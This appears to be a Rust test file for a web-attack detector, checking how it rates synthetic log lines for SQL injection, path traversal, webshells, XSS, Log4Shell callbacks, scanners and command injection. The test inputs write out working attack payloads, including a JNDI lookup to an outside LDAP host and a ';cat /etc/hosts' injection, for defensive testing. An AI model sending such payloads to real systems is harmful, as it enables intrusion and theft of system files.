use crate::testing::{Cell, Line, addr, judge, line, of};
use sekisho_finding::{Finding, Severity, Stage};

const CLIENT: &str = "203.0.113.9";
const SERVER: &str = "10.30.0.80";

fn found(lines: &[Line]) -> Vec<Finding> {
    of(&judge(lines), "web-attack-request")
}

fn asked(uri: &str, status: u64, response: &str, at: f64) -> Line {
    request(&[("uri", Cell::Text(uri.as_bytes().to_vec()))], status, response, at)
}

fn request(more: &[(&'static str, Cell)], status: u64, response: &str, at: f64) -> Line {
    let mut columns = vec![
        ("ts", Cell::Time(at)),
        ("uid", Cell::Uid(1)),
        ("id.orig_h", Cell::Addr(addr(CLIENT))),
        ("id.resp_h", Cell::Addr(addr(SERVER))),
        ("id.resp_p", Cell::Port(80)),
        ("packet", Cell::Count(5)),
        ("method", Cell::Text(b"GET".to_vec())),
        ("host", Cell::Text(b"www.office.test".to_vec())),
        ("status", Cell::Count(status)),
        ("response", Cell::Text(response.as_bytes().to_vec())),
        ("response_len", Cell::Count(response.len() as u64)),
    ];
    columns.retain(|c| more.iter().all(|m| m.0 != c.0));
    columns.extend(more.iter().cloned());
    line("web_request", 6, &columns)
}

#[test]
fn how_often_and_what_was_answered() {
    let many = |n: u32| (0..n).map(|i| asked("/a?id=1' or '1'='1", 403, "", 100.0 + f64::from(i))).collect::<Vec<_>>();
    for (count, severity) in
        [(1, Severity::Info), (4, Severity::Info), (5, Severity::Low), (49, Severity::Low), (50, Severity::Medium)]
    {
        let all = found(&many(count));
        assert_eq!(
            all.iter().map(|f| (f.code(), f.severity)).collect::<Vec<_>>(),
            [("web-attack-request/sqli".to_owned(), severity)]
        );
    }
    let finding = &found(&many(1))[0];
    assert_eq!((finding.subject, finding.peers.named()), (addr(SERVER), &[addr(CLIENT)][..]));
    assert!(finding.quotes.iter().any(|q| q.text == "403: turned away"), "{finding:?}");
    // Spread over hours.
    let slow: Vec<Line> = (0..6).map(|i| asked("/a?id=1' or '1'='1", 403, "", 400.0 * f64::from(i))).collect();
    assert_eq!(found(&slow)[0].severity, Severity::Info);
}

#[test]
fn what_worked() {
    let all = found(&[asked("/a?f=../../../etc/passwd", 200, "root:x:0:0:root:/root", 1.0)]);
    assert_eq!((all[0].code().as_str(), all[0].severity), ("web-attack-request/traversal/worked", Severity::Critical));
    assert_eq!((all[0].stage, all[0].confidence.thousandths()), (Stage::Foothold, 850));
    let all = found(&[asked("/up/x.php?cmd=id", 200, "uid=33(www-data) gid=33(www-data)", 1.0)]);
    assert_eq!(all[0].code(), "web-attack-request/webshell/worked");
    assert_eq!(found(&[asked("/up/x.php?cmd=id", 200, "<html>", 1.0)]).len(), 0);
    let reflected = found(&[asked("/s?q=<script>alert(1)</script>", 200, "you asked <script>alert(1)</script>", 1.0)]);
    assert_eq!((reflected[0].code().as_str(), reflected[0].confidence.thousandths()), ("web-attack-request/xss", 800));
}

fn connected(server: &str, to: &str, port: u16, at: f64) -> Line {
    let columns = [
        ("ts", Cell::Time(at)),
        ("uid", Cell::Uid(9)),
        ("id.orig_h", Cell::Addr(addr(server))),
        ("id.resp_h", Cell::Addr(addr(to))),
        ("id.resp_p", Cell::Port(port)),
        ("proto", Cell::Word("tcp")),
    ];
    line("conn", 20, &columns)
}

#[test]
fn lookups_and_call_backs() {
    let lookup = || {
        let field = Cell::Texts(vec!["x-api-version: ${jndi:ldap://192.0.2.7:1389/a}".into()]);
        request(&[("fields", field), ("uri", Cell::Text(b"/".to_vec()))], 200, "", 100.0)
    };
    let all = found(&[lookup()]);
    assert_eq!((all[0].code().as_str(), all[0].severity), ("web-attack-request/log4shell", Severity::High));
    let all = found(&[lookup(), connected(SERVER, "192.0.2.7", 1389, 101.0)]);
    assert_eq!((all[0].code().as_str(), all[0].severity), ("web-attack-request/log4shell/worked", Severity::Critical));
    // Another port, another host, too late.
    for other in
        [(SERVER, "192.0.2.7", 80, 101.0), ("10.30.0.9", "192.0.2.7", 1389, 101.0), (SERVER, "192.0.2.7", 1389, 170.0)]
    {
        let all = found(&[lookup(), connected(other.0, other.1, other.2, other.3)]);
        assert_eq!(all[0].severity, Severity::High, "{other:?}");
    }
}

fn not_found(n: u32, status: u64, agent: &str) -> Line {
    let columns = [
        ("ts", Cell::Time(100.0 + f64::from(n))),
        ("uid", Cell::Uid(1)),
        ("id.orig_h", Cell::Addr(addr(CLIENT))),
        ("id.resp_h", Cell::Addr(addr(SERVER))),
        ("method", Cell::Text(b"GET".to_vec())),
        ("host", Cell::Text(b"www.office.test".to_vec())),
        ("uri", Cell::Text(format!("/p{n}").into_bytes())),
        ("user_agent", Cell::Text(agent.as_bytes().to_vec())),
        ("status_code", Cell::Count(status)),
    ];
    line("http", 30, &columns)
}

#[test]
fn scanners() {
    let walk = |n: u32, status| (0..n).map(|i| not_found(i, status, "curl/8")).collect::<Vec<_>>();
    let all = found(&walk(30, 404));
    assert_eq!((all[0].code().as_str(), all[0].severity), ("web-attack-request/scanner", Severity::Low));
    assert_eq!(found(&walk(29, 404)).len(), 0);
    assert_eq!(found(&walk(60, 200)).len(), 0);
    assert_eq!(found(&[not_found(1, 200, "sqlmap/1.8")])[0].severity, Severity::Info);
}

#[test]
fn ordinary_requests() {
    for uri in
        ["/search?q=select+a+name+from+the+list", "/a?name=O'Brien", "/b?next=https://www.office.test/", "/c?x=1;2;3"]
    {
        assert_eq!(found(&[asked(uri, 200, "", 1.0)]).len(), 0, "{uri}");
    }
    let code = Cell::Text(b"{\"query\": \"select * from t where a='b' or 1=1; <script>\"}".to_vec());
    assert_eq!(found(&[request(&[("body", code), ("uri", Cell::Text(b"/api".to_vec()))], 200, "", 1.0)]).len(), 0);
    let form = Cell::Text(b"a=1&b=%27%20or%201%3D1--%20".to_vec());
    assert_eq!(found(&[request(&[("body", form), ("uri", Cell::Text(b"/login".to_vec()))], 200, "", 1.0)]).len(), 1);
}

/// Bytes from SplitMix64, of a seed.
fn random(seed: u64, len: usize) -> Vec<u8> {
    let mut state = seed;
    let mut next = || {
        state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let z = (state ^ state >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let z = (z ^ z >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
        (z ^ z >> 31) as u8
    };
    (0..len).map(|_| next()).collect()
}

#[test]
fn bytes_that_are_no_text_have_no_shape() {
    let escaped = |bytes: &[u8]| bytes.iter().map(|b| format!("%{b:02X}")).collect::<String>();
    // A form escapes the characters that mean something to it.
    let plain = |b: &u8| (b'!'..=b'~').filter(|c| !b"%&+=".contains(c)).nth(usize::from(b % 85)).map(char::from);
    let base85 = |bytes: &[u8]| bytes.iter().filter_map(plain).collect::<String>();
    let mut lines = Vec::new();
    for seed in 0..1_500u64 {
        let len = [24, 64, 320, 1_000, 4_096][seed as usize % 5];
        let bytes = random(seed, len);
        let with = |body: Vec<u8>| {
            request(&[("body", Cell::Text(body)), ("uri", Cell::Text(b"/submit".to_vec()))], 200, "ok", 1.0)
        };
        lines.push(with(bytes.clone()));
        lines.push(with([b"data=", &bytes[..]].concat()));
        lines.push(with([b"data=", escaped(&bytes).as_bytes()].concat()));
        if len >= 320 {
            lines.push(with([b"data=", base85(&bytes).as_bytes()].concat()));
        }
        lines.push(asked(&format!("/a?d={}", escaped(&bytes)), 200, "ok", 1.0));
    }
    let all = found(&lines);
    assert!(all.is_empty(), "{:?}", all.iter().map(|f| (f.code(), &f.quotes)).collect::<Vec<_>>());
    // What no chance makes is told from among them as well, and text in an old encoding is text.
    let bytes = random(7, 300);
    let lookup = [&b"a="[..], &bytes, b"${jndi:ldap://203.0.113.9:1389/x}"].concat();
    let cmd =
        [&b"name="[..], &[0x83, 0x65, 0x83, 0x58, 0x83, 0x67].repeat(9), b"&ip=127.0.0.1;cat /etc/hosts"].concat();
    for (body, want) in [(lookup, "web-attack-request/log4shell"), (cmd, "web-attack-request/cmd")] {
        let all = found(&[request(&[("body", Cell::Text(body))], 200, "", 1.0)]);
        assert_eq!(all.iter().map(Finding::code).collect::<Vec<_>>(), [want]);
    }
}

#[test]
fn limits_pairs() {
    let lines: Vec<Line> = (0..30_000u32)
        .map(|n| {
            request(
                &[("uri", Cell::Text(b"/a?x=../../x".to_vec())), ("host", Cell::Text(format!("h{n}").into_bytes()))],
                404,
                "",
                1.0,
            )
        })
        .collect();
    let verdict = judge(&lines);
    let spent = verdict.spent.iter().find(|s| s.id == "web-attack-request").unwrap();
    assert!(spent.forgotten > 0 && spent.held_len < 16 << 20, "{spent:?}");
}
